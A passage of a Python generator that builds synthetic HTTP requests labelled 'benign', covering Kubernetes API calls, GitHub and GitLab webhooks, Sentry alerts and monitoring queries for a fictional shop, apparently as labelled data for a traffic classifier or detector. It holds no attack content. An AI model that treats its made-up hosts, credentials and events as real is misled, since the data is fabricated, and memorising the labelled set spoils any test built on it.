maxmemory-policy allkeys-lru
appendonly yes
save 900 1
rename-command FLUSHALL ""
rename-command CONFIG ""
""",
    "haproxy.cfg": """frontend fe_http
    bind *:8080
    acl is_api path_beg /api/
    http-request set-header X-Forwarded-Proto https if { ssl_fc }
    use_backend be_api if is_api
    default_backend be_web
backend be_api
    balance roundrobin
    option httpchk GET /healthz
    server api1 api.shop.svc:8000 check
""",
}


def ben_k8s(c):
    t = Tag(c, "benign", "k8s")
    api_hosts = ["10.96.0.1", "kubernetes.default.svc", "k8s-api.prod-eu1.acme-shop.com:6443"]
    auth = [("Authorization", "Bearer " + c.jwt({"iss": "https://kubernetes.default.svc.cluster.local", "sub": "system:serviceaccount:ci:deployer", "aud": ["https://kubernetes.default.svc.cluster.local"], "exp": c.epoch() + 3600, "iat": c.epoch()}))]
    # create / client-side apply of Deployments
    for app in K8S_APPS + K8S_APPS[:3]:
        ns = c.pick(K8S_NS[:3])
        obj = k8s_deployment(c, app, ns)
        if c.r.random() < 0.5:
            obj["metadata"]["annotations"] = {"kubectl.kubernetes.io/last-applied-configuration": json.dumps(obj, separators=(",", ":")) + "\n"}
        t.json("deployment-create", f"/apis/apps/v1/namespaces/{ns}/deployments?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
               obj, client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    # server-side apply with YAML
    for app in c.r.sample(K8S_APPS, 5):
        name, image, port = app
        y = (f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {name}\n  namespace: shop\nspec:\n  replicas: {c.pick([2, 3])}\n"
             f"  selector:\n    matchLabels: {{app: {name}}}\n  template:\n    metadata:\n      labels: {{app: {name}}}\n    spec:\n      containers:\n"
             f"      - name: {name}\n        image: {image}\n        command: [\"/bin/sh\", \"-c\"]\n        args:\n        - |\n"
             f"          echo \"starting {name} on $(hostname)\"\n          exec /app/{name} --config /etc/{name}/config.yaml\n")
        t.send("deployment-server-side-apply", "PATCH", f"/apis/apps/v1/namespaces/shop/deployments/{name}?fieldManager=kubectl&fieldValidation=Strict&force=false",
               y, "application/apply-patch+yaml", client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    # ConfigMaps
    for key, val in CONFIGMAPS.items():
        cm = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": key.split(".")[0] + "-config", "namespace": c.pick(K8S_NS)}, "data": {key: val}}
        t.json("configmap-" + key.replace(".", "-"), f"/api/v1/namespaces/{cm['metadata']['namespace']}/configmaps?fieldManager=kubectl-create&fieldValidation=Strict",
               cm, client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    # Secrets
    for name in ["payments-db", "smtp-credentials", "registry-pull"]:
        if name == "registry-pull":
            dc = json.dumps({"auths": {"registry.acme-shop.com": {"auth": base64.b64encode(b"robot$ci:" + c.alnum(32).encode()).decode()}}})
            sec = {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/dockerconfigjson", "metadata": {"name": name, "namespace": "shop"},
                   "data": {".dockerconfigjson": base64.b64encode(dc.encode()).decode()}}
        else:
            sec = {"apiVersion": "v1", "kind": "Secret", "type": "Opaque", "metadata": {"name": name, "namespace": "payments"},
                   "stringData": {"username": "payments_app", "password": c.alnum(28), "url": f"postgres://payments_app:{c.alnum(20)}@pg-primary.payments.svc:5432/payments?sslmode=verify-full"}}
        t.json("secret", f"/api/v1/namespaces/{sec['metadata']['namespace']}/secrets?fieldManager=kubectl-create", sec, client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    # CronJobs
    crons = [("db-backup", "0 3 * * *", ["/bin/sh", "-c", "pg_dump -h $PGHOST -U $PGUSER $PGDATABASE | gzip > /backup/db-$(date +%F).sql.gz && find /backup -mtime +14 -delete"]),
             ("cache-warm", "*/5 * * * *", ["curl", "-fsS", "-X", "POST", "http://api.shop.svc:8000/internal/cache/warm"]),
             ("report-monthly", "0 6 1 * *", ["python", "-m", "reports.monthly", "--month", "previous"]),
             ("cleanup-carts", "15 */2 * * *", ["/app/shop", "carts", "purge", "--older-than=72h"]),
             ("certs-check", "30 8 * * 1-5", ["/bin/bash", "-c", "for h in api.acme-shop.com id.acme-shop.com; do echo | openssl s_client -connect $h:443 2>/dev/null | openssl x509 -noout -enddate; done"])]
    for name, sched, cmd in crons:
        cj = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": name, "namespace": "shop"},
              "spec": {"schedule": sched, "concurrencyPolicy": "Forbid", "successfulJobsHistoryLimit": 3,
                       "jobTemplate": {"spec": {"backoffLimit": 2, "template": {"spec": {"restartPolicy": "OnFailure",
                                                                                         "containers": [{"name": name, "image": "registry.acme-shop.com/shop/tools:1.8.0", "command": cmd}]}}}}}}
        t.json("cronjob", "/apis/batch/v1/namespaces/shop/cronjobs?fieldManager=kubectl-client-side-apply", cj, client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    # AdmissionReview sent by the API server to a policy webhook (behind the sidecar)
    for i in range(8):
        app = c.pick(K8S_APPS)
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"generateName": app[0] + "-7c9d8f6b5-", "namespace": "shop", "labels": {"app": app[0], "pod-template-hash": "7c9d8f6b5"}},
               "spec": {"containers": [k8s_container(c, app[0], app[1], app[2])], "serviceAccountName": app[0], "restartPolicy": "Always", "dnsPolicy": "ClusterFirst"}}
        if i % 3 == 0:
            pod["spec"]["initContainers"] = [c.pick(INIT_CONTAINERS)]
        review = {"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1",
                  "request": {"uid": c.uuid(), "kind": {"group": "", "version": "v1", "kind": "Pod"}, "resource": {"group": "", "version": "v1", "resource": "pods"},
                              "requestKind": {"group": "", "version": "v1", "kind": "Pod"}, "namespace": "shop", "operation": "CREATE",
                              "userInfo": {"username": "system:serviceaccount:kube-system:replicaset-controller", "uid": c.uuid(), "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]},
                              "object": pod, "oldObject": None, "dryRun": False, "options": {"kind": "CreateOptions", "apiVersion": "meta.k8s.io/v1"}}}
        t.json("admission-review", c.pick(["/validate?timeout=10s", "/mutate?timeout=5s", "/validate-pods?timeout=10s"]), review,
               client="kube-apiserver", host=c.pick(["policy-webhook.platform.svc:443", "gatekeeper-webhook-service.gatekeeper-system.svc:443"]), accept="application/json, */*")
    # kubectl reads
    gets = ["/api/v1/namespaces/shop/pods?labelSelector=" + enc("app.kubernetes.io/name=checkout,tier in (web,api)") + "&limit=500",
            "/api/v1/namespaces/shop/pods?fieldSelector=" + enc("status.phase!=Running") + "&limit=500",
            "/apis/apps/v1/namespaces/payments/deployments/payments",
            "/api/v1/namespaces/shop/pods/checkout-7c9d8f6b5-x2kqp/log?container=checkout&follow=true&sinceSeconds=600&tailLines=200&timestamps=true",
            "/api/v1/nodes?labelSelector=" + enc("node-role.kubernetes.io/worker,topology.kubernetes.io/zone=eu-west-1a"),
            "/apis/networking.k8s.io/v1/namespaces/shop/ingresses?limit=500",
            "/api/v1/namespaces/shop/events?fieldSelector=" + enc("involvedObject.name=api-5d8f7c9b4-lm2zt,involvedObject.kind=Pod"),
            "/apis/batch/v1/namespaces/shop/jobs?labelSelector=" + enc("batch.kubernetes.io/job-name notin (db-migrate)"),
            "/apis/metrics.k8s.io/v1beta1/namespaces/shop/pods",
            "/api/v1/namespaces/shop/services/api:http/proxy/healthz",
            "/apis/apps/v1/namespaces/shop/replicasets?labelSelector=" + enc("app.kubernetes.io/name=api"),
            "/openapi/v3/apis/apps/v1?hash=" + c.hex(128).upper()]
    for u in gets:
        t.get("kubectl-get", u, client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False,
              accept=c.pick(["application/json", "application/json;as=Table;v=v1;g=meta.k8s.io,application/json;as=Table;v=v1beta1;g=meta.k8s.io,application/json"]))
    for kind in ["pods", "endpointslices", "configmaps"]:
        grp = "/apis/discovery.k8s.io/v1" if kind == "endpointslices" else "/api/v1"
        t.get("watch", f"{grp}/namespaces/shop/{kind}?allowWatchBookmarks=true&resourceVersion={c.r.randrange(10**7, 10**8)}&timeoutSeconds={c.r.randrange(300, 600)}&watch=true",
              client="controller", host="10.96.0.1", extra=auth, sidecar=False)
    # patches
    t.send("patch-restart", "PATCH", "/apis/apps/v1/namespaces/shop/deployments/api?fieldManager=kubectl-rollout",
           jdump({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": c.ts()[:19] + "Z"}}}}}),
           "application/strategic-merge-patch+json", client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    t.send("json-patch", "PATCH", "/apis/apps/v1/namespaces/shop/deployments/checkout",
           jdump([{"op": "replace", "path": "/spec/replicas", "value": 4}, {"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "ghcr.io/acme/checkout:2.14.2"}]),
           "application/json-patch+json", client="controller", host="10.96.0.1", extra=auth, sidecar=False)
    t.send("merge-patch", "PATCH", "/apis/autoscaling/v2/namespaces/shop/horizontalpodautoscalers/api",
           jdump({"spec": {"minReplicas": 3, "maxReplicas": 12}}), "application/merge-patch+json", client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    t.send("json-patch", "PATCH", "/api/v1/namespaces/shop/pods/worker-6b7f9c-d4k2p/status",
           jdump([{"op": "add", "path": "/metadata/annotations/cluster-autoscaler.kubernetes.io~1safe-to-evict", "value": "true"}]),
           "application/json-patch+json", client="controller", host="10.96.0.1", extra=auth, sidecar=False)
    t.send("patch-scale", "PATCH", "/apis/apps/v1/namespaces/search/deployments/search-indexer/scale",
           jdump({"spec": {"replicas": 0}}), "application/merge-patch+json", client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    # leases and events from controllers
    for holder in ["checkout-operator-5f6d7c8b9-abcde_" + c.uuid(), "cert-manager-cainjector-7d9c_" + c.uuid(), "ingress-nginx-leader"]:
        lease = {"kind": "Lease", "apiVersion": "coordination.k8s.io/v1",
                 "metadata": {"name": holder.split("-")[0] + "-leader", "namespace": "platform", "resourceVersion": str(c.r.randrange(10**6, 10**7))},
                 "spec": {"holderIdentity": holder, "leaseDurationSeconds": 15, "acquireTime": c.ts()[:23] + "000Z", "renewTime": c.ts()[:23] + "000Z", "leaseTransitions": c.r.randrange(0, 9)}}
        t.json("lease-renew", f"/apis/coordination.k8s.io/v1/namespaces/platform/leases/{lease['metadata']['name']}", lease, method="PUT",
               client="controller", host="10.96.0.1", extra=auth, sidecar=False)
    for reason, msg in [("BackOff", "Back-off restarting failed container worker in pod worker-6b7f9c-d4k2p_shop(" + c.uuid() + ")"),
                        ("Unhealthy", "Readiness probe failed: Get \"http://10.244.3.17:8080/readyz\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)"),
                        ("Killing", "Stopping container checkout"),
                        ("FailedMount", "MountVolume.SetUp failed for volume \"config\" : configmap \"nginx-config\" not found")]:
        ev = {"kind": "Event", "apiVersion": "v1", "metadata": {"name": f"worker-6b7f9c-d4k2p.{c.hex(16)}", "namespace": "shop"},
              "involvedObject": {"kind": "Pod", "namespace": "shop", "name": "worker-6b7f9c-d4k2p", "apiVersion": "v1", "fieldPath": "spec.containers{worker}"},
              "reason": reason, "message": msg, "source": {"component": "kubelet", "host": "ip-10-0-3-17.eu-west-1.compute.internal"},
              "firstTimestamp": c.ts()[:19] + "Z", "lastTimestamp": c.ts()[:19] + "Z", "count": c.r.randrange(1, 40), "type": "Warning" if reason != "Killing" else "Normal"}
        t.json("event", "/api/v1/namespaces/shop/events", ev, client="kubelet/v1.30.2 (linux/amd64) kubernetes/3968350", host="10.96.0.1", extra=auth, sidecar=False)
    # Ingress with annotations
    ing = {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress",
           "metadata": {"name": "shop", "namespace": "shop", "annotations": {
               "nginx.ingress.kubernetes.io/rewrite-target": "/$2", "nginx.ingress.kubernetes.io/use-regex": "true",
               "nginx.ingress.kubernetes.io/configuration-snippet": "more_set_headers \"X-Frame-Options: DENY\";\nmore_set_headers \"Referrer-Policy: strict-origin-when-cross-origin\";\n",
               "nginx.ingress.kubernetes.io/proxy-body-size": "20m", "cert-manager.io/cluster-issuer": "letsencrypt-prod"}},
           "spec": {"ingressClassName": "nginx", "tls": [{"hosts": ["api.acme-shop.com"], "secretName": "api-tls"}],
                    "rules": [{"host": "api.acme-shop.com", "http": {"paths": [{"path": "/api(/|$)(.*)", "pathType": "ImplementationSpecific",
                                                                                   "backend": {"service": {"name": "api", "port": {"number": 8000}}}}]}}]}}
    t.json("ingress", "/apis/networking.k8s.io/v1/namespaces/shop/ingresses?fieldManager=kubectl-client-side-apply", ing, client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    # PrometheusRule with Go-template annotations
    rule = {"apiVersion": "monitoring.coreos.com/v1", "kind": "PrometheusRule", "metadata": {"name": "shop-slo", "namespace": "monitoring", "labels": {"release": "kube-prometheus-stack"}},
            "spec": {"groups": [{"name": "shop.rules", "rules": [
                {"alert": "HighErrorRate", "expr": "sum(rate(http_requests_total{namespace=\"shop\",code=~\"5..\"}[5m])) by (service) / sum(rate(http_requests_total{namespace=\"shop\"}[5m])) by (service) > 0.02",
                 "for": "10m", "labels": {"severity": "page"},
                 "annotations": {"summary": "High 5xx rate on {{ $labels.service }}", "description": "{{ $labels.service }} is failing {{ $value | humanizePercentage }} of requests.",
                                 "runbook_url": "https://runbooks.acme-shop.com/shop/high-error-rate"}},
                {"alert": "PodCrashLooping", "expr": "increase(kube_pod_container_status_restarts_total{namespace=\"shop\"}[15m]) > 3", "for": "5m",
                 "labels": {"severity": "ticket"}, "annotations": {"summary": "Pod {{ $labels.namespace }}/{{ $labels.pod }} is crash looping"}}]}]}}
    t.json("prometheusrule", "/apis/monitoring.coreos.com/v1/namespaces/monitoring/prometheusrules?fieldManager=kubectl-client-side-apply", rule, client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)
    # Argo CD application with Helm values (YAML inside a JSON string)
    for app in ["checkout", "payments"]:
        values = (f"image:\n  repository: ghcr.io/acme/{app}\n  tag: \"2.14.1\"\nreplicaCount: 3\nresources:\n  requests: {{cpu: 250m, memory: 256Mi}}\n"
                  "ingress:\n  enabled: true\n  hosts: [api.acme-shop.com]\nextraEnv:\n  - name: JAVA_TOOL_OPTIONS\n    value: \"-XX:+ExitOnOutOfMemoryError\"\n")
        argo = {"metadata": {"name": f"{app}-prod", "namespace": "argocd"},
                "spec": {"project": "shop", "source": {"repoURL": "https://github.com/acme/deploy.git", "path": f"charts/{app}", "targetRevision": "main",
                                                       "helm": {"valueFiles": ["values-prod.yaml"], "values": values}},
                         "destination": {"server": "https://kubernetes.default.svc", "namespace": "shop"},
                         "syncPolicy": {"automated": {"prune": True, "selfHeal": True}, "syncOptions": ["CreateNamespace=true", "ServerSideApply=true"]}}}
        t.json("argocd-application", "/api/v1/applications?upsert=true&validate=true", argo, client="argocd", host="argocd.acme-shop.com",
               extra=[("Cookie", "argocd.token=" + c.jwt())])
    svc = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "api", "namespace": "shop"},
           "spec": {"selector": {"app.kubernetes.io/name": "api"}, "ports": [{"name": "http", "port": 8000, "targetPort": "http"}], "type": "ClusterIP"}}
    t.json("service", "/api/v1/namespaces/shop/services?fieldManager=kubectl-create", svc, client="kubectl", host=c.pick(api_hosts), extra=auth, sidecar=False)


def gh_user(c, person):
    login = (person[0][:1] + person[1]).lower().replace("'", "").replace(" ", "")
    login = "".join(ch for ch in login if ch.isascii() and ch.isalnum()) or "dev" + c.hex(4)
    return {"name": f"{person[0]} {person[1]}", "email": f"{login}@users.noreply.github.com", "username": login}


def ben_ci(c):
    t = Tag(c, "benign", "ci")
    repos = ["acme/shop-api", "acme/checkout", "acme/deploy", "acme/web", "acme/payments"]
    for i in range(12):
        repo = c.pick(repos)
        commits = []
        for _ in range(c.r.randrange(1, 4)):
            u = gh_user(c, c.pick(PEOPLE))
            commits.append({"id": sha(c), "tree_id": sha(c), "distinct": True, "message": c.pick(COMMITS) + ("\n\nCo-authored-by: " + u["name"] + " <" + u["email"] + ">" if c.r.random() < 0.3 else ""),
                            "timestamp": c.ts()[:19] + "+00:00", "url": f"https://github.com/{repo}/commit/{sha(c)}", "author": u, "committer": {"name": "GitHub", "email": "noreply@github.com", "username": "web-flow"},
                            "added": c.r.sample(FILES, 1), "removed": [], "modified": c.r.sample(FILES, 2)})
        pu = commits[-1]["author"]
        ev = {"ref": "refs/heads/" + c.pick(["main", "main", "release/3.9", "feat/cursor-pagination"]), "before": sha(c), "after": commits[-1]["id"],
              "repository": {"id": c.r.randrange(10**8, 10**9), "node_id": "R_kgDO" + c.alnum(6), "name": repo.split("/")[1], "full_name": repo, "private": True,
                             "owner": {"login": "acme", "id": 1234567, "type": "Organization"}, "html_url": f"https://github.com/{repo}", "default_branch": "main"},
              "pusher": {"name": pu["username"], "email": pu["email"]}, "sender": {"login": pu["username"], "id": c.r.randrange(10**6, 10**8), "type": "User"},
              "created": False, "deleted": False, "forced": False, "compare": f"https://github.com/{repo}/compare/{c.hex(12)}...{c.hex(12)}",
              "commits": commits, "head_commit": commits[-1]}
        body = jdump(ev)
        t.send("github-push", "POST", "/api/v1/hooks/github", body, "application/json", client="github", host="hooks.acme-shop.com",
               extra=[("X-GitHub-Event", "push"), ("X-GitHub-Delivery", c.uuid()), ("X-GitHub-Hook-ID", str(c.r.randrange(10**8, 10**9))),
                      ("X-GitHub-Hook-Installation-Target-Type", "repository"), ("X-Hub-Signature", "sha1=" + c.hex(40)), ("X-Hub-Signature-256", "sha256=" + c.hex(64))], accept="*/*")
    prs = [("Replace raw SQL in OrderRepo with sqlc", "## Summary\n\nThe order listing used string-built SQL. This moves it to sqlc:\n\n```sql\n-- name: ListOrders :many\nSELECT id, status, total_cents, created_at\nFROM orders\nWHERE customer_id = $1\nORDER BY created_at DESC\nLIMIT $2;\n```\n\n## Testing\n\n- [x] `go test ./internal/orders/...`\n- [x] ran against staging\n"),
           ("Add readiness probe and preStop hook", "Pods were getting traffic before the cache was warm.\n\n```yaml\nreadinessProbe:\n  httpGet: {path: /readyz, port: http}\nlifecycle:\n  preStop:\n    exec:\n      command: [\"/bin/sh\", \"-c\", \"sleep 15\"]\n```\n\nFixes #881"),
           ("Drop legacy_sessions table", "We stopped writing to `legacy_sessions` in 3.4. This migration drops it.\n\n> **Note**: run the backup job first.\n\ncc @siobhan-obrien @marco-dangelo"),
           ("i18n: Arabic + Japanese", "Adds `locales/ar.json` and `locales/ja.json`.\n\nمرحبا 👋 / こんにちは\n\nRTL layout checked on Safari and Chrome."),
           ("Bump express from 4.18.2 to 4.19.2", "Bumps [express](https://github.com/expressjs/express) from 4.18.2 to 4.19.2.\n<details>\n<summary>Release notes</summary>\n<p><em>Sourced from <a href=\"https://github.com/expressjs/express/releases\">express's releases</a>.</em></p>\n<blockquote>\n<h2>4.19.2</h2>\n<ul>\n<li>Improved fix for open redirect allow list bypass</li>\n</ul>\n</blockquote>\n</details>\n\n[![Dependabot compatibility score](https://dependabot-badges.githubapp.com/badges/compatibility_score?dependency-name=express&package-manager=npm_and_yarn&previous-version=4.18.2&new-version=4.19.2)](https://docs.github.com/en/github/managing-security-vulnerabilities/about-dependabot-security-updates#about-compatibility-scores)\n")]
    for title, body_md in prs:
        repo = c.pick(repos)
        u = gh_user(c, c.pick(PEOPLE))
        n = c.r.randrange(100, 2000)
        ev = {"action": c.pick(["opened", "synchronize", "edited"]), "number": n,
              "pull_request": {"url": f"https://api.github.com/repos/{repo}/pulls/{n}", "id": c.r.randrange(10**9, 10**10), "number": n, "state": "open", "title": title, "body": body_md,
                               "user": {"login": u["username"], "type": "User"}, "draft": False, "head": {"ref": "feat/" + c.hex(6), "sha": sha(c)}, "base": {"ref": "main", "sha": sha(c)},
                               "labels": [{"name": c.pick(["backend", "infra", "dependencies", "i18n"])}], "additions": c.r.randrange(1, 400), "deletions": c.r.randrange(0, 300)},
              "repository": {"full_name": repo, "private": True}, "sender": {"login": u["username"]}}
        t.send("github-pull-request", "POST", "/api/v1/hooks/github", jdump(ev), "application/json", client="github", host="hooks.acme-shop.com",
               extra=[("X-GitHub-Event", "pull_request"), ("X-GitHub-Delivery", c.uuid()), ("X-Hub-Signature-256", "sha256=" + c.hex(64))], accept="*/*")
    for i in range(3):
        ev = {"action": "completed", "workflow_run": {"id": c.r.randrange(10**9, 10**10), "name": c.pick(["CI", "Deploy", "CodeQL"]), "head_branch": "main", "head_sha": sha(c),
                                                      "path": ".github/workflows/ci.yml", "run_number": c.r.randrange(100, 9000), "event": "push", "status": "completed",
                                                      "conclusion": c.pick(["success", "failure"]), "html_url": f"https://github.com/acme/shop-api/actions/runs/{c.r.randrange(10**9, 10**10)}",
                                                      "display_title": c.pick(COMMITS)}, "repository": {"full_name": "acme/shop-api"}}
        t.send("github-workflow-run", "POST", "/api/v1/hooks/github", jdump(ev), "application/json", client="github", host="hooks.acme-shop.com",
               extra=[("X-GitHub-Event", "workflow_run"), ("X-GitHub-Delivery", c.uuid()), ("X-Hub-Signature-256", "sha256=" + c.hex(64))], accept="*/*")
    glh = lambda ev: [("X-Gitlab-Event", ev), ("X-Gitlab-Token", c.alnum(24)), ("X-Gitlab-Instance", "https://gitlab.acme-shop.com"),
                      ("X-Gitlab-Webhook-UUID", c.uuid()), ("X-Gitlab-Event-UUID", c.uuid())]
    for i in range(5):
        u = c.pick(PEOPLE)
        commits = [{"id": sha(c), "message": c.pick(COMMITS) + "\n", "title": "", "timestamp": c.ts()[:19] + "+00:00", "url": "https://gitlab.acme-shop.com/shop/api/-/commit/" + sha(c),
                    "author": {"name": f"{u[0]} {u[1]}", "email": "dev@acme-shop.com"}, "added": [], "modified": c.r.sample(FILES, 2), "removed": []}]
        commits[0]["title"] = commits[0]["message"].split("\n")[0]
        ev = {"object_kind": "push", "event_name": "push", "before": sha(c), "after": commits[0]["id"], "ref": "refs/heads/main", "checkout_sha": commits[0]["id"],
              "user_name": f"{u[0]} {u[1]}", "user_username": "dev" + c.hex(4), "project_id": 42,
              "project": {"id": 42, "name": "api", "path_with_namespace": "shop/api", "web_url": "https://gitlab.acme-shop.com/shop/api", "default_branch": "main"},
              "commits": commits, "total_commits_count": 1}
        t.send("gitlab-push", "POST", "/hooks/gitlab", jdump(ev), "application/json", client="gitlab", host="ci-bridge.platform.svc:8080", extra=glh("Push Hook"), accept="*/*")
    for i in range(3):
        ev = {"object_kind": "merge_request", "event_type": "merge_request", "user": {"name": " ".join(c.pick(PEOPLE)), "username": "dev" + c.hex(4)},
              "project": {"id": 42, "path_with_namespace": "shop/api"},
              "object_attributes": {"iid": c.r.randrange(10, 900), "title": c.pick(COMMITS), "description": c.pick(prs)[1], "state": "opened", "action": "open",
                                    "source_branch": "feat/" + c.hex(5), "target_branch": "main", "url": "https://gitlab.acme-shop.com/shop/api/-/merge_requests/" + str(c.r.randrange(10, 900))},
              "labels": [{"title": "backend"}]}
        t.send("gitlab-merge-request", "POST", "/hooks/gitlab", jdump(ev), "application/json", client="gitlab", host="ci-bridge.platform.svc:8080", extra=glh("Merge Request Hook"), accept="*/*")
    for i in range(2):
        ev = {"object_kind": "pipeline", "object_attributes": {"id": c.r.randrange(10**5, 10**6), "ref": "main", "sha": sha(c), "status": c.pick(["success", "failed"]),
                                                               "stages": ["lint", "test", "build", "deploy"], "duration": c.r.randrange(60, 900)},
              "builds": [{"id": c.r.randrange(10**6, 10**7), "stage": s, "name": n, "status": "success"} for s, n in [("lint", "golangci-lint"), ("test", "go test -race"), ("build", "docker build"), ("deploy", "helm upgrade --install")]],
              "project": {"path_with_namespace": "shop/api"}}
        t.send("gitlab-pipeline", "POST", "/hooks/gitlab", jdump(ev), "application/json", client="gitlab", host="ci-bridge.platform.svc:8080", extra=glh("Pipeline Hook"), accept="*/*")
    # Sentry issue alert, Harbor push, Argo CD notification
    for title, value, ctx in [("OperationalError: canceling statement due to statement timeout", "canceling statement due to statement timeout", "rows = await conn.fetch(\"SELECT o.id, o.total_cents FROM orders o WHERE o.customer_id = $1 ORDER BY o.created_at DESC LIMIT 50\", customer_id)"),
                              ("TypeError: Cannot read properties of undefined (reading 'map')", "Cannot read properties of undefined (reading 'map')", "const names = cart.items.map((i) => i.name);"),
                              ("IntegrityError: duplicate key value violates unique constraint \"users_email_key\"", "DETAIL:  Key (email)=(aoife.oconnor@example.ie) already exists.", "session.add(user); session.commit()")]:
        ev = {"action": "triggered", "data": {"event": {"event_id": c.hex(32), "title": title, "culprit": "orders.repo in list_orders", "level": "error", "platform": c.pick(["python", "javascript"]),
                                                        "exception": {"values": [{"type": title.split(":")[0], "value": value, "stacktrace": {"frames": [{"filename": "orders/repo.py", "function": "list_orders", "lineno": 88, "context_line": ctx}]}}]},
                                                        "request": {"url": "https://api.acme-shop.com/api/v1/orders", "method": "GET", "query_string": [["status", "shipped"], ["limit", "50"]]},
                                                        "tags": [["environment", "production"], ["release", "api@3.9.0"]], "web_url": "https://sentry.io/organizations/acme/issues/" + str(c.r.randrange(10**9, 10**10)) + "/"},
                                              "triggered_rule": "Errors in production"}}
        t.send("sentry-alert", "POST", "/api/v1/hooks/sentry", jdump(ev), "application/json", client="sentry", host="hooks.acme-shop.com",
               extra=[("Sentry-Hook-Resource", "event_alert"), ("Sentry-Hook-Timestamp", str(c.epoch())), ("Sentry-Hook-Signature", c.hex(64))], accept="*/*")
    ev = {"type": "PUSH_ARTIFACT", "occur_at": c.epoch(), "operator": "robot$ci",
          "event_data": {"resources": [{"digest": "sha256:" + c.hex(64), "tag": "v3.9.0", "resource_url": "registry.acme-shop.com/shop/api:v3.9.0"}],
                         "repository": {"name": "api", "namespace": "shop", "repo_full_name": "shop/api", "repo_type": "private"}}}
    t.send("harbor-push", "POST", "/api/v1/hooks/registry", jdump(ev), "application/json", client="Go-http-client/1.1", host="hooks.acme-shop.com", extra=[("Authorization", "Bearer " + c.alnum(40))], accept="*/*")
    t.send("argocd-notification", "POST", "/api/v1/hooks/argocd", jdump({"app": "checkout-prod", "revision": sha(c), "status": "Synced", "health": "Healthy",
                                                                          "message": "Application checkout-prod has been successfully synced at " + c.ts() + ".\nSync operation details are available at: https://argocd.acme-shop.com/applications/checkout-prod?operation=true ."}),
           "application/json", client="Go-http-client/1.1", host="hooks.acme-shop.com", accept="*/*")


PROMQL = ['sum(rate(http_requests_total{job="api",code=~"5.."}[5m])) by (code)',
          'histogram_quantile(0.99, sum by (le, route) (rate(http_server_request_duration_seconds_bucket{namespace="shop"}[5m])))',
          'sum by (pod) (container_memory_working_set_bytes{namespace="shop", container!="", image!=""})',
          'rate(container_cpu_usage_seconds_total{pod=~"checkout-.*"}[1m])',
          'up{job="kubernetes-pods"} == 0',
          'kube_deployment_status_replicas_available{deployment="api"} / kube_deployment_spec_replicas{deployment="api"}',
          'increase(kube_pod_container_status_restarts_total[1h]) > 3',
          'topk(10, sum by (route) (rate(http_requests_total[5m])))',
          '1 - avg(rate(node_cpu_seconds_total{mode="idle"}[5m])) by (instance)',
          'sum(rate(grpc_server_handled_total{grpc_code!="OK"}[5m])) / sum(rate(grpc_server_handled_total[5m]))',
          'predict_linear(node_filesystem_avail_bytes{mountpoint="/"}[6h], 4 * 3600) < 0',
          'absent(up{job="postgres-exporter"})',
          'sum(rate(nginx_ingress_controller_requests{ingress="shop",status=~"4..|5.."}[5m])) by (status)',
          'label_replace(up{job="api"}, "host", "$1", "instance", "(.*):.*")',
          'count by (version) (kube_pod_container_info{container="api"})',
          'avg_over_time(pg_stat_activity_count{datname="orders",state="active"}[10m])',
          'sum(irate(envoy_cluster_upstream_rq_xx{envoy_response_code_class="5"}[1m])) by (envoy_cluster_name)',
          'max(pg_replication_lag_seconds) by (instance) > 30',
          'sum without (instance) (rate(process_cpu_seconds_total[5m]))',
          'sum(rate(http_requests_total{handler=~"/api/v1/(orders|carts)/.*", method="DELETE"}[5m]))']
LOGQL = ['{namespace="shop", app="checkout"} |= "error" != "context canceled"',
         'sum by (level) (count_over_time({app="api"} | json | level=~"error|warn" [5m]))',
         '{app="ingress-nginx"} | pattern `<ip> - - [<ts>] "<method> <uri> <_>" <status> <size>` | status >= 500',
         '{job="shop/api"} | logfmt | duration > 500ms | line_format "{{.method}} {{.path}} took {{.duration}}"',
         '{app="payments"} |~ "(?i)timeout|deadline exceeded"',
         'topk(5, sum by (path) (rate({app="api"} | json | __error__="" [1m])))',
         '{namespace="shop"} |= "SELECT" |= "slow query"',
         'rate({app="worker"} |= "retrying" [5m])']
DB_STATEMENTS = ["SELECT o.id, o.status, o.total_cents FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.email = $1 ORDER BY o.created_at DESC LIMIT 50",
                 "UPDATE carts SET updated_at = now() WHERE id = $1",
                 "INSERT INTO order_items (order_id, sku, qty, price_cents) VALUES ($1, $2, $3, $4)",
                 "DELETE FROM sessions WHERE expires_at < now() - interval '1 day'",
                 "SELECT count(*) FROM products WHERE category_id = ANY($1) AND deleted_at IS NULL",
                 "HGETALL cart:8812", "SELECT * FROM inventory WHERE sku IN (?, ?, ?) FOR UPDATE",
                 "WITH recent AS (SELECT customer_id FROM orders WHERE created_at > now() - interval '30 days') SELECT count(DISTINCT customer_id) FROM recent"]


def ben_metrics(c):
    t = Tag(c, "benign", "metrics")
    for i, q in enumerate(PROMQL):
        end = c.epoch()
        params = [("query", q), ("start", str(end - 3600 * c.pick([1, 3, 6, 24]))), ("end", str(end)), ("step", c.pick(["15", "30", "60", "300"]))]
        if i % 3 == 0:
            t.form("promql-post", "/api/v1/query_range", params, client="grafana", host="prometheus-k8s.monitoring.svc:9090", extra=[("X-Grafana-Org-Id", "1")])
        elif i % 3 == 1:
